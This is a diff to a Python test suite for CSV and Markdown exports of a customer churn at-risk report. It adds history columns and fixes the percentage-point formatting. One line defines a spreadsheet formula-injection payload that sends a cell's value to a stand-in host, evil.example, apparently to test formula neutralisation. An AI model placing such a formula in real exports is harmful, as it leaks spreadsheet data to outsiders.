@@ -16,9 +16,10 @@ from markdown_it import MarkdownIt
 from serving.report.exports import at_risk_csv, at_risk_markdown, neutralise_formula
 from serving.report.tables import AT_RISK_COLUMNS
 
-TEXT = ["account_id", "account", "segment", "csm_owner", "risk_tier", "renewal", "top_reasons",
-        "recommended_action", "owner_role", "urgency", "due_by"]
-NUMBERS = ["mrr", "churn_probability", "probability_change", "expected_mrr_loss", "days_to_renewal"]
+TEXT = ["account_id", "account", "segment", "csm_owner", "risk_tier", "top_reasons", "recommended_action",
+        "owner_role", "previous_tier", "renewal", "urgency", "due_by"]
+NUMBERS = ["mrr", "churn_probability", "probability_change", "expected_mrr_loss", "previous_probability",
+           "days_in_tier", "days_to_renewal"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 # text in a cell → (the CSV cell read back, the Markdown cell as written)
 SHAPES = {
@@ -45,16 +46,18 @@ SHAPES = {
     "": ("", ""),
     None: ("", "–"),
 }
-# numbers in the numeric columns → (the CSV cell, MRR in the Markdown, change in the Markdown)
-NUMBER_SHAPES = [(-0.05, "-0.05", "-0", "-0.1 pp"), (0.0, "0", "0", "+0.0 pp"),
-                 (-1234.5, "-1234.5", "-1,234", "-1234.5 pp"), (math.nan, "", "–", "new"), (None, "", "–", "new")]
+# numbers in the numeric columns → (the CSV cell, MRR in the Markdown, change in the Markdown); a change is in
+# probability units, shown in percentage points
+NUMBER_SHAPES = [(-0.05, "-0.05", "-0", "-5.0 pp"), (0.0, "0", "0", "+0.0 pp"),
+                 (-1234.5, "-1234.5", "-1,234", "-123450.0 pp"), (math.nan, "", "–", "new"), (None, "", "–", "new")]
 AS_OF = date(2025, 5, 1)
 
 
 def at_risk(text: list, numbers: list) -> pd.DataFrame:
     """An at-risk list with one row per value: every text column holds the text, every number column the number."""
     frame = pd.DataFrame({c: pd.Series(text, dtype=object) for c in TEXT}
-                         | {c: pd.Series(numbers, dtype=float) for c in NUMBERS})
+                         | {c: pd.Series(numbers, dtype=float) for c in NUMBERS}
+                         | {"tier_since": pd.Series([date(2025, 3, 1)] * len(text), dtype=object)})
     return frame[AT_RISK_COLUMNS]
 
 
@@ -110,10 +113,10 @@ def test_each_text_cell_of_the_markdown_is_written_exactly(value):
     lines = at_risk_markdown(at_risk([value], [1.0]), AS_OF).splitlines()
     assert len(lines) == 5  # title, blank, header, rule, one row: no value breaks a line
     cells = markdown_cells(lines[4])
-    assert len(cells) == 14
+    assert len(cells) == 18
     text = dict(zip(["account", "segment", "csm_owner"], cells[1:4], strict=True)) | dict(
-        zip(["risk_tier", "renewal", "top_reasons", "recommended_action", "owner_role", "due_by"], cells[8:14],
-            strict=True))
+        zip(["risk_tier", "top_reasons", "recommended_action", "owner_role"], cells[8:12], strict=True)) | {
+        "previous_tier": cells[13], "renewal": cells[16], "due_by": cells[17]}
     assert text == dict.fromkeys(text, SHAPES[value][1])
 
 
@@ -160,7 +163,7 @@ def test_rendered_markdown_shows_each_value_as_text_in_its_own_cell():
     assert page.tags == {"h1", "table", "thead", "tbody", "tr", "th", "td"}
     assert page.attributes == []
     rows = page.rows[1:]
-    assert len(rows) == len(values) and {len(row) for row in rows} == {14}
+    assert len(rows) == len(values) and {len(row) for row in rows} == {18}
     for value, row in zip(values, rows, strict=True):
         expected = "–" if value is None else neutralise_formula(value)
         expected = " ".join(expected.replace("\r", "\n").split("\n")).strip(" \t")
